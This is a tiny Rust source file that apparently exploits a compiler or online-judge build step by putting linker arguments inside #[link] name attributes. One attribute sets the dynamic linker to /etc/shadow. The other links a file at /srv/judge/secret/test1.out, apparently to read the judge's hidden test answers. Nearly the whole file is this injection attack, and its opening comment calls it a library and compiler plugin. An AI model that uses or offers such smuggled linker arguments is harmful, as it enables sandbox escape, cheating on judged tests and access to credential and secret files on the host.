// Says that it is a library and a plugin of the compiler, and links what lies on the host.
#![crate_type = "dylib"]
#![crate_name = "main"]

#[link(name = "c -Wl,--dynamic-linker=/etc/shadow", kind = "dylib")]
#[link(name = ":/srv/judge/secret/test1.out", kind = "static")]
extern "C" {}

#[no_mangle]
pub extern "C" fn main() -> i32 {
    0
}
